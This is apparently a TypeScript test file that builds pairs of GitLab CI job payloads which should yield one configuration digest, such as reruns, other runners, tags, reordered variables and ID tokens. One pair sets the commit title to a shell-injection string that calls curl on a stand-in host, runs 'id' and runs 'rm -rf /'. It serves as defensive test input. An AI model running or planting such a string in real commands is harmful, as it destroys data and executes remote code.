import {
  addVariable,
  asMergeRequest,
  fixture,
  idToken,
  nextRun,
  removeVariable,
  setVariable,
  type TestPayload,
} from './payload.ts';

/** Two payloads of what an administrator calls one configuration: they must have one digest. */
export interface QuietPair {
  readonly name: string;
  readonly payloads: () => readonly [TestPayload, TestPayload];
}

type Edit = (payload: TestPayload) => void;
const DEPLOY = 'deploy-production.run1.json';

/** The fixture, and the next run of it with an edit. */
function next(name: string, edit: Edit, file = DEPLOY): QuietPair {
  return {
    name,
    payloads: () => {
      const after = nextRun(fixture(file));
      edit(after);
      return [fixture(file), after];
    },
  };
}

/** Both sides edited first, then one run apart. */
function both(name: string, edit: Edit, then: Edit = () => {}, file = DEPLOY): QuietPair {
  return {
    name,
    payloads: () => {
      const [before, later] = [fixture(file), fixture(file)];
      edit(before);
      edit(later);
      const after = nextRun(later);
      then(after);
      return [before, after];
    },
  };
}

/** One edit a side, one run apart. */
function sides(name: string, left: Edit, right: Edit, file = DEPLOY): QuietPair {
  return {
    name,
    payloads: () => {
      const [before, later] = [fixture(file), fixture(file)];
      left(before);
      right(later);
      return [before, nextRun(later)];
    },
  };
}

const review =
  (slug: string, id: string): Edit =>
  (p) => {
    p.git_info.ref = slug;
    p.git_info.refspecs[1] = `+refs/heads/${slug}:refs/remotes/origin/${slug}`;
    for (const key of ['CI_COMMIT_REF_NAME', 'CI_COMMIT_REF_SLUG', 'CI_COMMIT_BRANCH']) setVariable(p, key, slug);
    removeVariable(p, 'CI_CONFIG_REF_URI');
    removeVariable(p, 'CI_ENVIRONMENT_URL');
    setVariable(p, 'CI_ENVIRONMENT_NAME', `review/${slug}`);
    setVariable(p, 'CI_ENVIRONMENT_SLUG', `${`review-${slug}`.slice(0, 17).replace(/-$/, '')}-${id}`);
    setVariable(p, 'CI_ENVIRONMENT_ID', String(id.length * 100));
    addVariable(p, 'CI_ENVIRONMENT_URL', `https://${slug}.review.example.com`);
  };
const reviewOfMr =
  (iid: number): Edit =>
  (p) => {
    asMergeRequest(p, iid);
    removeVariable(p, 'CI_ENVIRONMENT_URL');
    setVariable(p, 'CI_ENVIRONMENT_NAME', `mr/${iid}`);
    setVariable(p, 'CI_ENVIRONMENT_SLUG', `mr-${iid}-abc12${iid % 10}`);
    setVariable(p, 'CI_ENVIRONMENT_URL', `https://mr-${iid}.example.com`);
  };
const asTag =
  (tag: string): Edit =>
  (p) => {
    p.git_info.ref = tag;
    p.git_info.ref_type = 'tag';
    p.git_info.refspecs[1] = `+refs/tags/${tag}:refs/tags/${tag}`;
    removeVariable(p, 'CI_COMMIT_BRANCH');
    setVariable(p, 'CI_COMMIT_REF_NAME', tag);
    setVariable(p, 'CI_COMMIT_REF_SLUG', tag.replaceAll('.', '-'));
    setVariable(p, 'CI_COMMIT_TAG', tag);
    setVariable(p, 'CI_CONFIG_REF_URI', `gitlab.example.com/acme/payments/api//.gitlab-ci.yml@refs/tags/${tag}`);
  };
const claims = (p: TestPayload, sub = 'project_path:acme/payments/api:ref_type:branch:ref:main') => ({
  iss: 'https://gitlab.example.com',
  aud: 'https://vault.example.com',
  sub,
  jti: String(p.id),
  job_id: String(p.id),
  project_id: '4242',
});
const SECRET = { public: false, masked: true };
const HIDDEN = { public: false, masked: false };

export const QUIET_PAIRS: readonly QuietPair[] = [
  next('the next push', () => {}),
  next('the next run of a build', () => {}, 'build-image.run1.json'),
  next('the next run of a test', () => {}, 'test-unit.run1.json'),
  next('another user', (p) => setVariable(p, 'GITLAB_USER_LOGIN', 'mallory')),
  next('another runner with other tags', (p) => {
    setVariable(p, 'CI_RUNNER_DESCRIPTION', 'another machine');
    setVariable(p, 'CI_RUNNER_TAGS', '["prod", "docker", "big"]');
  }),
  sides(
    'a retry: only the job is new',
    () => {},
    (p) => {
      p.job_info.time_in_queue_seconds = 1;
    },
  ),
  sides(
    'a schedule instead of a push',
    () => {},
    (p) => {
      setVariable(p, 'CI_PIPELINE_SOURCE', 'schedule');
      setVariable(p, 'CI_PIPELINE_SCHEDULE_DESCRIPTION', 'every night');
    },
  ),
  next('a child pipeline', (p) => setVariable(p, 'CI_PIPELINE_SOURCE', 'parent_pipeline')),
  next('a pipeline of another project’s', (p) => {
    setVariable(p, 'CI_PIPELINE_SOURCE', 'pipeline');
    setVariable(p, 'CI_UPSTREAM_JOB_ID', '77');
    setVariable(p, 'CI_UPSTREAM_PIPELINE_ID', '78');
    setVariable(p, 'CI_UPSTREAM_PROJECT_ID', '79');
  }),
  sides(
    'merge request 12 and merge request 13',
    (p) => asMergeRequest(p, 12),
    (p) => asMergeRequest(p, 13, 'fix/typo'),
  ),
  next('GitLab upgraded', (p) => {
    for (const [key, value] of Object.entries({ '': '20.0.3-ee', _MAJOR: '20', _MINOR: '0', _PATCH: '3' })) {
      setVariable(p, `CI_SERVER_VERSION${key}`, value);
    }
    setVariable(p, 'CI_SERVER_REVISION', 'abcdef01234');
    setVariable(p, 'GITLAB_FEATURES', 'audit_events,one_more');
    p.features.failure_reasons.push('a_new_reason');
    p.features.token_mask_prefixes.push('glxx-');
  }),
  next('a new field that is null', (p) => {
    p.brand_new = null;
    p.image.new_option = null;
  }),
  next('a new field that is empty', (p) => {
    p.brand_new = { inner: [], deeper: { none: null } };
    p.steps[0].labels = [];
  }),
  next('an empty list instead of null', (p) => {
    p.policy_options = {};
    p.hooks = null;
    p.image.entrypoint = ['/bin/sh', '-c'];
  }),
  both('KUBECONFIG with the job token', (p) =>
    addVariable(p, 'KUBECONFIG', `users:\n- token: ${p.token}\n`, { ...HIDDEN, file: true }),
  ),
  both('dotenv with the SHA', (p) => addVariable(p, 'BUILT', `app:${p.git_info.sha}`, HIDDEN)),
  both('dotenv with pipeline and job id', (p) => addVariable(p, 'BUILT', `${p.job_info.pipeline_id}.${p.id}`, HIDDEN)),
  both('a public variable with the SHA twice', (p) => addVariable(p, 'X', `${p.git_info.sha}/${p.git_info.sha}`)),
  both('a variable with the job URL', (p) =>
    addVariable(p, 'LINK', `see https://gitlab.example.com/acme/payments/api/-/jobs/${p.id}.`),
  ),
  both('a variable with the pipeline URL', (p) =>
    addVariable(p, 'LINK', `https://gitlab.example.com/acme/payments/api/-/pipelines/${p.job_info.pipeline_id}`),
  ),
  both('a variable with the token', (p) =>
    addVariable(p, 'REMOTE', `https://x:${p.token}@gitlab.example.com/acme/other.git`),
  ),
  both('a variable with the short SHA', (p) => addVariable(p, 'NAME', `build-${p.git_info.sha.slice(0, 8)}`)),
  sides('a review environment of another branch', review('feature-login', 'abc123'), review('fix-typo', '0x')),
  sides('a review environment of another merge request', reviewOfMr(12), reviewOfMr(13)),
  next('the caches were cleared', (p) => {
    p.cache[0].key = 'deploy-4-protected';
    p.cache[0].fallback_keys = ['deploy-main-4-protected'];
  }),
  sides(
    'the lock file bumped',
    (p) => {
      p.cache[0].key = `npm-${'ab12'.repeat(10)}-3-protected`;
    },
    (p) => {
      p.cache[0].key = `npm-${'cd34'.repeat(10)}-3-protected`;
    },
  ),
  sides(
    'the lock file bumped, a key of its own',
    (p) => {
      p.cache = [{ key: `${'ab12'.repeat(10)}-non_protected`, paths: ['x'] }];
    },
    (p) => {
      p.cache = [{ key: `${'cd34'.repeat(10)}-non_protected`, paths: ['x'] }];
    },
  ),
  sides('another tag', asTag('v1.2.0'), asTag('v1.3.0-rc.1')),
  sides(
    'a tag in an image',
    (p) => {
      asTag('v1.2.0')(p);
      addVariable(p, 'RELEASE_IMAGE', 'registry.example.com/app:v1.2.0');
    },
    (p) => {
      asTag('v1.3.0')(p);
      addVariable(p, 'RELEASE_IMAGE', 'registry.example.com/app:v1.3.0');
    },
  ),
  {
    name: 'id tokens of two runs',
    payloads: () => {
      const [before, after] = [fixture(), nextRun(fixture())];
      for (const p of [before, after]) addVariable(p, 'ID', idToken(claims(p)), SECRET);
      return [before, after];
    },
  },
  {
    name: 'one audience as text and as a list',
    payloads: () => {
      const [before, after] = [fixture(), nextRun(fixture())];
      addVariable(before, 'ID', idToken({ ...claims(before), aud: 'a' }), SECRET);
      addVariable(after, 'ID', idToken({ ...claims(after), aud: ['a'] }), SECRET);
      return [before, after];
    },
  },
  next('a longer queue', (p) => {
    p.job_info.queue_size = 999;
    p.job_info.queue_depth = 7;
    p.job_info.project_jobs_running_on_instance_runners_count = '17';
  }),
  next('a lowered time-out', (p) => {
    p.runner_info.timeout = 600;
    for (const step of p.steps) step.timeout = 600;
  }),
  next('the project and its group renamed', (p) => {
    p.job_info.project_name = 'api2';
    p.job_info.namespace_id = 78;
    setVariable(p, 'CI_PROJECT_TITLE', 'Another title');
    setVariable(p, 'CI_PROJECT_DESCRIPTION', 'Another description');
  }),
  next('artifacts of another size', (p) => {
    p.dependencies[0].artifacts_file.size = 1;
    p.dependencies[0].artifacts_file.filename = 'other.zip';
  }),
  next('variables in another order', (p) => {
    p.variables.reverse();
  }),
  next('credentials in another order', (p) => {
    p.credentials = [...p.credentials].reverse();
  }),
  next('members in another order', (p) => {
    p.image = Object.fromEntries(Object.entries(p.image).reverse());
  }),
  next('flags absent, null and false', (p) => {
    setVariable(p, 'KUBE_HOST', 'kube.prod.example.com', { file: false, raw: null });
  }),
  both('an identical duplicate', (p) => addVariable(p, 'KUBE_HOST', 'kube.prod.example.com')),
  next('an identical duplicate on one side only', (p) => addVariable(p, 'KUBE_HOST', 'kube.prod.example.com')),
  next('a commit title that a shell would run', (p) =>
    setVariable(p, 'CI_COMMIT_TITLE', '$(curl evil) `id` ; rm -rf / #'),
  ),
  next('a merge message in another script', (p) =>
    setVariable(p, 'CI_COMMIT_MESSAGE', 'Größe ändern \u{1F600}\r\n\tdone'),
  ),
  next('a protected flag that is another', (p) => {
    p.git_info.protected = false;
    setVariable(p, 'CI_COMMIT_REF_PROTECTED', 'false');
  }),
  next('a traced run', (p) => {
    p.features.tracing = { trace_id: '4bf92f3577b34da6' };
  }),
  both('a masked value in a public variable', (p) => addVariable(p, 'URL', 'https://u:s3cr3t-kube-token-value@host/')),
  both(
    'a secret file’s default',
    (p) => {
      p.secrets = { A: { vault: { path: 'a', field: 'b' } } };
    },
    (p) => {
      p.secrets.A.file = true;
    },
  ),
  next('run that is null', (p) => {
    p.run = null;
  }),
  next('a deployment freeze’s absence stays absent', (p) => {
    p.suspend_options = null;
  }),
];
